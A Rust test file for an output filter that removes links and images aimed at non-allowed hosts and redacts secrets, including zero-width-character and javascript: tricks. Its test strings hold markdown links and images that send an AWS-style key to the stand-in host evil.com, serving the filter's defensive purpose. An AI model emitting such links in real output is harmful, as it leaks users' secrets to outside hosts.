//! Links and images, together with the rules.

use lastword::redact::{Allow, Links, OutputFilter, Settings};

fn filter(links: Links) -> OutputFilter {
    let list = |hosts: &[&str]| Some(hosts.iter().map(|host| (*host).to_owned()).collect());
    let allow = Allow { images: list(&["img.ok"]), links: list(&["ok.com"]), ..Allow::default() };
    OutputFilter::new(&Settings { allow, links, ..Settings::default() }).unwrap()
}

#[test]
fn what_points_elsewhere_is_taken_out_however_the_text_is_cut() {
    let key = ["AKIA", "QYLPMN5HFIQR7XYA"].concat();
    let text = format!(
        "See [a](https://evil.com/?k={key}) and ![b](//evil.com/{key}), [c](https://ok.com/x).\n\n\
         [d]: https://evil.com/{key}\n<img src=//evil.com> https://evil.com/{key}? `code` a < b {key}.\n"
    );
    let expected = "See [a] and [image removed: evil.com], [c](https://ok.com/x).\n\n\
                    [d]: [link removed: evil.com]\n[image removed: evil.com] [link removed: evil.com]? `code` a < b \
                    [REDACTED:aws_key].\n";
    for cut in 0..text.len() {
        let mut filter = filter(Links::default());
        let mut out = filter.push(&text[..cut]);
        out.push_str(&filter.push(&text[cut..]));
        out.push_str(&filter.flush());
        assert_eq!(out, expected, "cut at {cut}");
        assert_eq!(filter.counts().find(|(name, _)| *name == "links"), Some(("links", 5)));
    }
}

#[test]
fn a_zero_width_character_does_not_hide_an_address() {
    let mut filter = filter(Links { show_target: true, ..Links::default() });
    let mut out =
        filter.push("ht\u{200b}tps://evil.com [a](java\u{ad}script:x) [b](https://evil.com) https://evil.com");
    assert!(!filter.is_clear(), "the address may go on");
    out.push_str(&filter.flush());
    assert_eq!(out, "[link removed: evil.com] [a] (javascript) [b] (evil.com) [link removed: evil.com]");
    assert!(filter.is_clear());
}

#[test]
fn without_a_list_nothing_is_looked_at() {
    let text = "![a](https://any.org/x) <img src=//any.org> [b](javascript:x)";
    let mut filter = OutputFilter::new(&Settings::default()).unwrap();
    assert_eq!(filter.push(text) + &filter.flush(), text);
}
